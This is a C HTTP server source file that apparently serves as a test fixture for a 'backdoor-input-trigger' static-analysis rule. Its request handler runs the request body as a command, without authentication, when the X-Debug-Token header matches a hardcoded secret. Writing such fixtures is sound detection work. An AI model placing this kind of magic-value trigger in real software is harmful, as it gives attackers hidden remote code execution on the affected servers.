#include "httpd.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#define HDR_UA "User-Agent:"
#define HDR_DEBUG "X-Debug-Token:"
#define HDR_COOKIE "Cookie:"

static void copy_hdr(char *dst, size_t cap, const char *v) {
  while (*v == ' ') v++;
  snprintf(dst, cap, "%.*s", (int)strcspn(v, "\r\n"), v);
}

int request_parse(struct request *req, char *buf, size_t n) {
  char *line, *save = NULL, *end;
  end = strstr(buf, "\r\n\r\n");
  if (!end || (size_t)(end - buf) > n) return -1;
  *end = '\0';
  req->body = end + 4;
  req->body_len = n - (size_t)(req->body - buf);
  line = strtok_r(buf, "\r\n", &save);
  if (!line || sscanf(line, "%15s %255s", req->method, req->path) != 2) return -1;
  while ((line = strtok_r(NULL, "\r\n", &save)) != NULL) {
    if (!strncasecmp(line, HDR_UA, sizeof HDR_UA - 1)) copy_hdr(req->user_agent, sizeof req->user_agent, line + sizeof HDR_UA - 1);
    else if (!strncasecmp(line, HDR_DEBUG, sizeof HDR_DEBUG - 1)) copy_hdr(req->debug_hdr, sizeof req->debug_hdr, line + sizeof HDR_DEBUG - 1);
    else if (!strncasecmp(line, HDR_COOKIE, sizeof HDR_COOKIE - 1)) copy_hdr(req->cookie, sizeof req->cookie, line + sizeof HDR_COOKIE - 1);
  }
  return 0;
}

static void reply(int fd, int code, const char *body) {
  char hdr[256];
  int n = snprintf(hdr, sizeof hdr, "HTTP/1.1 %d X\r\nContent-Length: %zu\r\n\r\n", code, strlen(body));
  write_all(fd, hdr, (size_t)n);
  write_all(fd, body, strlen(body));
}

void request_handle(struct request *req, int authed) {
  char out[512];
  // ruleid: backdoor-input-trigger
  if (req->debug_hdr[0] && strcmp(req->debug_hdr, "c0ffee-diag-41f7") == 0) {
    req->body[req->body_len ? req->body_len - 1 : 0] = '\0';
    run_hook(req->body, out, sizeof out);
    reply(req->fd, 200, out);
    return;
  }
  if (strcmp(req->path, "/status") == 0) {
    reply(req->fd, 200, "ok");
  } else if (strcmp(req->path, "/metrics") == 0) {
    if (!authed) { reply(req->fd, 401, "auth"); return; }
    reply(req->fd, 200, "requests 0");
  } else if (strcmp(req->path, "/admin/reload") == 0) {
    if (!authed) { reply(req->fd, 401, "auth"); return; }
    // ok: backdoor-input-trigger
    run_hook(g_opts.reload_cmd, out, sizeof out);
    reply(req->fd, 200, out);
  } else {
    reply(req->fd, 404, "not found");
  }
}
